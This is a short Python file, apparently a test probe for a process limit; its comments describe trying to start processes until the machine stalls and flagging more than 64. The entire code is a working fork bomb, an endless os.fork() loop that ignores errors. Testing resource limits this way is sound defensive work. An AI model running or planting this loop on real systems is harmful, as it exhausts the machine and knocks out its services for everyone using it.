# tries: to start processes until the machine stands still
# tells: started more than 64 processes
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
